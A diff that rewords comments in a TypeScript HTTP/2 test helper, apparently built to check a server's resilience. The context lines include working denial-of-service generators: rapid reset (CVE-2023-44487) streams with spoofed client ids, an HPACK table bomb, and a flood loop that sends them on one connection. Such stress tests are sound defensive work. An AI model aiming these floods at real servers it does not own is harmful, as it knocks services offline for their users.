@@ -2,7 +2,7 @@ import { once } from 'node:events';
 import http2 from 'node:http2';
 import tls from 'node:tls';
 
-/** One connection of HTTP/2, as a page has it. */
+/** One HTTP/2 connection, as a page opens it. */
 export class Http2Client {
   readonly session: http2.ClientHttp2Session;
 
@@ -27,7 +27,7 @@ export class Http2Client {
     return { status: Number(answer[':status']), text };
   }
 
-  /** A stream of events as far as it has come. */
+  /** Opens an event stream. Collects its data as it arrives. */
   async listen(path: string, headers: Record<string, string> = {}): Promise<Http2Events> {
     const stream = this.session.request({ ':path': path, ...headers });
     const events = new Http2Events(stream);
@@ -78,7 +78,7 @@ const number32 = (value: number): Buffer => {
   return bytes;
 };
 
-/** One frame, whatever it says (RFC 9113 section 4.1). */
+/** Encodes one frame of any content (RFC 9113, section 4.1). */
 export function frame(type: number, flags: number, stream: number, payload: Uint8Array): Buffer {
   const head = Buffer.alloc(5);
   head.writeUIntBE(payload.length, 0, 3);
@@ -87,7 +87,10 @@ export function frame(type: number, flags: number, stream: number, payload: Uint
   return Buffer.concat([head, number32(stream), payload]);
 }
 
-/** A block of fields without compression (RFC 7541 section 6.2.2); names and values below 127 bytes. */
+/**
+ * Encodes a block of fields without compression (RFC 7541, section 6.2.2). Names and values must be
+ * shorter than 127 bytes.
+ */
 export function fields(list: readonly (readonly [string, string])[]): Buffer {
   return Buffer.concat(
     list.flatMap(([name, value]) => [
@@ -111,18 +114,18 @@ const none = Buffer.alloc(0);
 const open = (stream: number, path: string, ends = true): Buffer =>
   frame(1, ends ? 5 : 4, stream, request(path));
 const odd = (turn: number): number => 2 * turn + 1;
-/** The id of a listener who is nobody, so that no limit of one id is met. */
+/** Returns an unused client id, so that no limit per id applies. */
 const nobody = (stream: number): string =>
   `/bridge/events?client_id=${stream.toString(16).padStart(64, 'f')}`;
 const bomb = Buffer.concat([
   request('/'),
-  // One field of 4,000 bytes goes into the table, and each byte is that field again.
+  // A field of 4,000 bytes enters the table, and each following byte repeats it.
   Buffer.from([0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]),
   Buffer.alloc(4_000, 'v'),
   Buffer.alloc(11_000, 0xbe),
 ]);
 
-/** What a stranger says again and again behind his preface, by the turn. */
+/** Frames that an attacker sends repeatedly after the preface, by round. */
 export const floods: Readonly<Record<string, (turn: number) => Buffer>> = {
   'rapid reset (CVE-2023-44487)': (turn) =>
     Buffer.concat([open(odd(turn), nobody(turn)), frame(3, 0, odd(turn), number32(8))]),
@@ -150,7 +153,7 @@ export const floods: Readonly<Record<string, (turn: number) => Buffer>> = {
       : frame(8, 0, odd(turn % 50), number32(1)),
 };
 
-/** Says it on one connection until the server ends that, or `over()`. */
+/** Sends a flood on one connection until the server closes it, or `over()` is true. */
 export async function flood(
   port: number,
   say: (turn: number) => Buffer,
